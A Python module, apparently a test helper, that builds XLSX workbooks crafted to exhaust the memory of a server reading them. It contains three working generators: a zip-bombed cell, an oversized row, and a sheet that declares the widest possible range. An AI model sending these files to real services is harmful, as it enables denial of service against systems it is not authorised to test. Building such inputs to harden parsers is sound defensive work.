"""XLSX workbooks made to exhaust a server that opens them: small files, huge when read."""

import io
import random
import zipfile
from collections.abc import Iterable

MB = 1024 * 1024
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
PARTS = {
    "[Content_Types].xml": (
        f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{PACKAGE}/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/'
        'sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
        'worksheet+xml"/></Types>'),
    "_rels/.rels": (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PACKAGE}/relationships">'
        f'<Relationship Id="rId1" Type="{REL}/officeDocument" Target="xl/workbook.xml"/>'
        "</Relationships>"),
    "xl/workbook.xml": (
        f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{MAIN}" xmlns:r="{REL}">'
        '<sheets><sheet name="People" sheetId="1" r:id="rId1"/></sheets></workbook>'),
    "xl/_rels/workbook.xml.rels": (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PACKAGE}/relationships">'
        f'<Relationship Id="rId1" Type="{REL}/worksheet" Target="worksheets/sheet1.xml"/>'
        "</Relationships>"),
}
SHEET_START = (f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN}">'
               .encode())


def workbook(sheet: Iterable[bytes]) -> bytes:
    """A workbook of one sheet whose XML is the chunks given, packed as it is written."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in PARTS.items():
            archive.writestr(name, text)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            for chunk in sheet:
                part.write(chunk)
    return out.getvalue()


def zip_bomb(expanded_mb: int = 150) -> bytes:
    """One cell whose text is the same letter, expanded_mb megabytes of it: a few hundred
    kilobytes packed."""
    def sheet() -> Iterable[bytes]:
        yield SHEET_START + b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
        block = b"a" * MB
        for _ in range(expanded_mb):
            yield block
        yield b"</t></is></c></row></sheetData></worksheet>"

    return workbook(sheet())


def wide_row(cells: int) -> bytes:
    """One row of many numbered cells: varied enough to pack only a few times over, as a real
    sheet does, but built whole by a reader before it reads the row."""
    numbers = random.Random(7)

    def sheet() -> Iterable[bytes]:
        yield SHEET_START + b'<sheetData><row r="1">'
        for start in range(0, cells, 10_000):
            yield b"".join(b"<c><v>%d</v></c>" % numbers.randrange(10**6)
                           for _ in range(min(10_000, cells - start)))
        yield b"</row></sheetData></worksheet>"

    return workbook(sheet())


def declared_huge() -> bytes:
    """A header row and one cell in the last row of the widest sheet there can be: a reader
    that fills in what the sheet says it spans makes a million empty rows of 16,384 cells."""
    return workbook([SHEET_START + b'<dimension ref="A1:XFD1048576"/><sheetData>'
                     b'<row r="1"><c r="A1" t="inlineStr"><is><t>Name</t></is></c></row>'
                     b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is>'
                     b"</c></row></sheetData></worksheet>"])
